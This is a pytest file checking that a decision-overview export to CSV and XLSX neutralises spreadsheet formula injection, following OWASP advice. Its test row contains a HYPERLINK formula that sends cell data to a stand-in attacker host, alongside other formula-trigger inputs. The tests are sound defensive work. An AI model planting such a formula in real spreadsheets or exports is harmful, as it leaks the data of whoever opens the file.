"""The decision overview as CSV and XLSX: text a person typed is never a formula in the reader's spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from fleet.decisions import export
from fleet.decisions.models import DecisionKind
from fleet.decisions.schemas import OverviewRow
from fleet.spreadsheet import neutralised

ROW = OverviewRow(
    decision_ids=[1],
    kinds=[DecisionKind.DEPLOYMENT],
    decision_date="2023-03-01",
    cameras="2",
    location='=HYPERLINK("https://attacker.invalid/?d="&A2,"Markt")',
    period="1-3-2023 t/m 31-3-2023",
    reason="+overlast",
    registration="Z/23/004512",
    warnings=["-", "@risk"],
)


def test_csv_and_xlsx_hold_the_text_not_a_formula() -> None:
    line = next(csv.DictReader(io.StringIO(export.to_csv([ROW]).decode("utf-8-sig"))))
    assert line["location"] == "'" + ROW.location and line["reason"] == "'+overlast"
    assert line["warnings"] == "'-; @risk" and line["registration"] == "Z/23/004512"
    sheet = load_workbook(io.BytesIO(export.to_xlsx([ROW], year=2023))).active
    assert sheet is not None
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert all(cell.data_type == "s" for cell in cells)
    assert [cell.value for cell in cells][3] == "'" + ROW.location


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+31 77 359 6666", "'+31 77 359 6666"),
        ("-", "'-"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Axis", "Axis"),
        ("", ""),
        ("1=1", "1=1"),
    ],
)
def test_owasp_neutralisation(text: str, shown: str) -> None:
    assert neutralised(text) == shown
